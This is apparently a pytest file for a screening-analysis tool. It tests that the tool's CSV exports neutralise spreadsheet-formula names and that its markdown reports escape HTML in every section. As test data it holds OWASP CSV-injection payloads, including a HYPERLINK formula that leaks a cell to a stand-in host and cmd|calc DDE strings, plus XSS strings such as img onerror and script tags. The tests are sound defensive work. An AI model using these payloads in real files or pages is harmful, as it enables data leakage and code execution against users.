"""The export door and the files phenoica writes, tried as a new user tries them: names a
spreadsheet reads as formulas, names that are markup in every report section, a results folder
whose record is gone, a dry run, the file's own row numbers, repeated or unread columns, controls
per plate, hygiene that leaves nothing, and the first look at a new export (docs/bad-input.md)."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd

from tests.conftest import REPO

#: Names a spreadsheet reads as formulas (the OWASP CSV-injection payloads).
FORMULAS = {
    "G0": '=HYPERLINK("http://x/?leak="&A1,"click")',
    "G1": "+cmd|' /C calc'!A0",
    "G2": "-2+3+cmd|' /C calc'!A0",
    "G3": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


# --------------------------------------------------------------------------- formula cells


def test_csv_writer_neutralises_formula_text_and_keeps_numbers(tmp_path):
    from phenoica.utils import write_csv

    df = pd.DataFrame(
        {
            "gene": [*FORMULAS.values(), "-1.5", "\t=1", "plain"],
            "auroc": [0.5, -0.25, 1e-3, -3.0, -1.0, 0.0, 2.0],
            "n": [-1, 2, 3, 4, 5, 6, 7],
            "@col": ["a"] * 7,
        }
    )
    cells = _cells(write_csv(df, tmp_path / "t.csv"))
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or re.match(r"-[^\d.]|-\d+\+", c)]
    back = pd.read_csv(tmp_path / "t.csv")
    assert back["gene"].tolist()[:4] == ["'" + v for v in FORMULAS.values()]
    assert back["gene"].tolist()[4:] == ["-1.5", "'\t=1", "plain"]  # a plain number stays as it is
    pd.testing.assert_series_equal(back["auroc"], df["auroc"])  # numbers stay numbers
    pd.testing.assert_series_equal(back["n"], df["n"])
    assert list(back.columns)[-1] == "'@col"


def test_every_csv_phenoica_writes_goes_through_the_one_writer():
    """No ``to_csv`` call in the library or the scripts but the writer's own."""
    calls = [
        f"{path.relative_to(REPO)}:{i}"
        for root in ("src", "scripts")
        for path in sorted((REPO / root).rglob("*.py"))
        for i, line in enumerate(path.read_text().splitlines(), 1)
        if ".to_csv(" in line and path.name != "_csv.py"
    ]
    assert calls == []


def test_formula_names_leave_the_report_tables_as_text(tmp_path):
    """Genes and guides named with formulas: every CSV of the report holds no cell a spreadsheet
    reads as a formula, and each name reads as itself after its leading quote."""
    from phenoica.report import ReportInputs, write_report
    from tests.report_fixtures import report_options
    from tests.test_report import aggregate, ica_gain, make_rows

    rows = make_rows(ica_gain, model="=1+1", n_genes=4, n_null=3)
    rows["Metadata_Guide"] = [
        FORMULAS.get(g, g) + guide[2:] for g, guide in zip(rows["Metadata_Gene"], rows["Metadata_Guide"])
    ]
    rows["Metadata_Gene"] = rows["Metadata_Gene"].replace(FORMULAS)
    guides, genes = aggregate(rows)
    write_report(tmp_path / "r", ReportInputs(rows, guides, genes), report_options())
    tables = sorted((tmp_path / "r").rglob("*.csv"))
    assert len(tables) >= 3
    cells = [c for path in tables for c in _cells(path)]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or re.match(r"-[^\d.]|-\d+\+", c)]
    for name in FORMULAS.values():
        assert "'" + name in cells


def test_the_door_says_which_names_read_as_formulas(tmp_path):
    from tests.test_bad_input import _by_plate, _door, _emb_screen, _four_plates

    frames = _by_plate(_four_plates())
    for df in frames.values():
        df["Metadata_Gene"] = df["Metadata_Gene"].replace({"G1": FORMULAS["G0"], "G3": FORMULAS["G3"]})
    notes = _door(_emb_screen(tmp_path, frames))["notes"]
    note = next(n for n in notes if "read as a formula" in n or "reads as a formula" in n)
    assert re.search(
        r"column Metadata_Gene: 2 name\(s\) start with '=', '\+', '-', '@', '\\t', '\\r', which a spreadsheet reads "
        r"as a formula: '=HYPERLINK.*\(.*P1\.parquet row \d+\).*every CSV table phenoica writes shows them with a "
        r"leading \"'\"",
        note,
    ), note


# --------------------------------------------------------------------------- names as markup, in every section

HOSTILE = "m<img src=x onerror=alert(1)>"


def _live_markup(md: str) -> list[str]:
    """What a CommonMark renderer (raw HTML allowed, as a code host or an editor renders it) makes
    of ``md`` beyond text: raw HTML, and links to anything but a relative path."""
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(md)
    inline = [t for block in tokens for t in [block, *(block.children or [])]]
    found = [t.content for t in inline if t.type in ("html_inline", "html_block")]
    found += [t.attrs["href"] for t in inline if t.type == "link_open" and ":" in str(t.attrs["href"])]
    return found


def test_every_text_slot_of_a_page_is_text_whatever_a_section_put_there():
    """The renderer is the one place every section's text goes through: a name put into a
    paragraph, a bullet, a table caption or a links label without escaping is text in report.md
    as it is in index.html; the three inline forms a section writes stay forms."""
    from phenoica.report import _render as render

    names = [HOSTILE, "[x](javascript:alert(1))", "<script>alert(1)</script>", "# heading", "a & b < c"]
    blocks = [
        *(f"{n}: the classifier's null is position (`plates/`) **bold** [t](tables/x.csv)." for n in names),
        render.Bullets(names),
        render.Table(pd.DataFrame({"model": names}), caption=names[0]),
        render.Links([(names[0], "tables/x.csv")], label=names[2]),
    ]
    md = render.render_markdown(render.Page("t", sections=[render.PageSection(names[0], blocks)]))
    assert _live_markup(md) == []
    assert "`plates/`" in md and "**bold**" in md and "[t](tables/x.csv)" in md and "a & b < c" in md


def test_the_plates_and_hygiene_sections_write_a_hostile_model_name_as_text(tmp_path):
    """The sections that wrote names raw: "where on the plate" (the position summary and the
    null's layout) and "Profile hygiene", in a report of every section whose model and batch carry
    markup."""
    from phenoica.hits._positions import plate_wells, position_summary
    from phenoica.report import ReportInputs, write_report
    from phenoica.screen import arrayed
    from tests.report_fixtures import report_options
    from tests.test_plates import PLANTED
    from tests.test_report import aggregate, ica_gain, make_rows

    profiles, _ = arrayed.screen_profiles(PLANTED, 0)
    profiles["Metadata_Batch"] = "b<img src=y onerror=alert(2)>"
    rows = make_rows(ica_gain, model=HOSTILE, n_genes=4, n_null=3)
    guides, genes = aggregate(rows)
    hygiene = {"kept": ["f1"], "dropped": ["<b>f2</b>"], "missing": ["<b>f2</b>"], "constant": [], "outliers": {}}
    inputs = ReportInputs(
        rows,
        guides,
        genes,
        plate_wells=plate_wells(profiles),
        positions=position_summary(profiles, HOSTILE, seed=0, n_permutations=19),
        null_layout=pd.DataFrame(
            [
                {
                    "model": HOSTILE,
                    "setting": "auto",
                    "layout": "position",
                    "reason": "auto: <i>x</i>",
                    "position_capacity": 64,
                }
            ]
        ),
        profile_hygiene={HOSTILE: {**hygiene, "normalize": "none", "outlier_cutoff": 500.0, "outlier_policy": "drop"}},
    )
    md = write_report(tmp_path / "r", inputs, report_options())["report_md"].read_text()
    assert "## Plates" in md and "## Profile hygiene" in md
    assert _live_markup(md) == []
    assert "m\\<img src=x onerror=alert(1)>: the classifier's null is position" in md
